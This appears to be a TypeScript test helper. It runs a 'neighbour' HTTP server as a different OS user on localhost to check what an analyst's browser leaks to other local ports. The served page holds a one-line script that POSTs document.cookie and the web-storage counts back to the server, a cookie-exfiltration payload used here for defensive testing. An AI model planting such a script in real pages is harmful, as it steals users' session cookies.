// A plain HTTP server run by another OS user on another 127.0.0.1 port: what a neighbour on a shared desktop can
// set up, to see what the analyst's browser sends it when it visits (cookies ignore ports). It logs every request
// it receives (method, URL, headers, body) as one JSON line on stdout, which the test reads as it comes.
import { spawn, type ChildProcess } from 'node:child_process';
import { createInterface } from 'node:readline';
import process from 'node:process';
import type { OtherUser } from '../../support/other-user.ts';

export interface ReceivedRequest {
  method: string;
  url: string;
  headers: Record<string, string | string[] | undefined>;
  body: string;
}

export interface OtherUserServer {
  url: string;
  /** Everything received so far. */
  readonly received: ReceivedRequest[];
  /** Resolves with the first request (already received or still to come) whose path is `path`. */
  request(path: string): Promise<ReceivedRequest>;
  stop(): Promise<void>;
}

const SERVER_SOURCE = `
import { createServer } from 'node:http';
const page = '<!doctype html><title>Neighbour</title><p>Nothing to see.</p><script>fetch("/echo", { method: "POST", credentials: "include", body: document.cookie + "|" + String(localStorage.length) + "|" + String(sessionStorage.length) });</script>';
const server = createServer((req, res) => {
  let body = '';
  req.on('data', (chunk) => (body += chunk));
  req.on('end', () => {
    console.log(JSON.stringify({ method: req.method, url: req.url, headers: req.headers, body }));
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' });
    res.end(page);
  });
});
server.listen({ host: '127.0.0.1', port: 0 }, () => console.log(JSON.stringify({ listening: server.address().port })));
process.on('SIGTERM', () => server.close(() => process.exit(0)));
`;

export function startOtherUserServer(user: OtherUser): Promise<OtherUserServer> {
  // As test/support/other-user.ts runs the other user's code: own uid and gid, no groups, no inherited environment.
  const child: ChildProcess = spawn(
    '/usr/bin/setpriv',
    [`--reuid=${user.uid}`, `--regid=${user.gid}`, '--clear-groups', '--', process.execPath, '--input-type=module', '-e', SERVER_SOURCE],
    { cwd: '/', env: { PATH: '/usr/bin:/bin', HOME: '/nonexistent', LANG: 'C.UTF-8' }, stdio: ['ignore', 'pipe', 'inherit'] },
  );
  const received: ReceivedRequest[] = [];
  const waiting: { path: string; resolve: (request: ReceivedRequest) => void }[] = [];
  const exited = new Promise<void>((resolve) => child.once('exit', () => resolve()));
  return new Promise((resolveStart, rejectStart) => {
    child.once('exit', (code) => rejectStart(new Error(`The other user's server stopped (exit ${code}).`)));
    createInterface({ input: child.stdout! }).on('line', (line) => {
      const message = JSON.parse(line) as { listening?: number } & ReceivedRequest;
      if (message.listening !== undefined) {
        resolveStart({
          url: `http://127.0.0.1:${message.listening}`,
          received,
          request(path) {
            const seen = received.find((r) => new URL(r.url, 'http://x').pathname === path);
            if (seen) return Promise.resolve(seen);
            return new Promise((resolve) => waiting.push({ path, resolve }));
          },
          async stop() {
            if (child.exitCode === null && child.signalCode === null) child.kill('SIGTERM');
            await exited;
          },
        });
        return;
      }
      received.push(message);
      const path = new URL(message.url, 'http://x').pathname;
      for (const waiter of waiting.filter((w) => w.path === path)) {
        waiting.splice(waiting.indexOf(waiter), 1);
        waiter.resolve(message);
      }
    });
  });
}
